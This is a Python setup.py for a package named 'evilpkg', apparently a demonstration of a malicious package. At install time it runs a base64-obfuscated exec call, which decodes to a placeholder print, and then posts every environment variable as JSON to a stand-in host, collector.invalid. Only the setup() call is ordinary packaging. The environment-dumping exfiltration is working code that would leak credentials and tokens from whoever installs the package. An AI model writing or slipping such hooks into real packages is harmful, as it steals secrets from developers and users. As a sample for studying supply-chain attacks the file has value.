import base64
import json
import os
import urllib.request
from setuptools import setup

exec(base64.b64decode("cHJpbnQoJ3BheWxvYWQgd291bGQgcnVuIGhlcmUnKQ=="))
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://collector.invalid/x", data=data)

setup(name="evilpkg", version="1.0", packages=["evilpkg"])
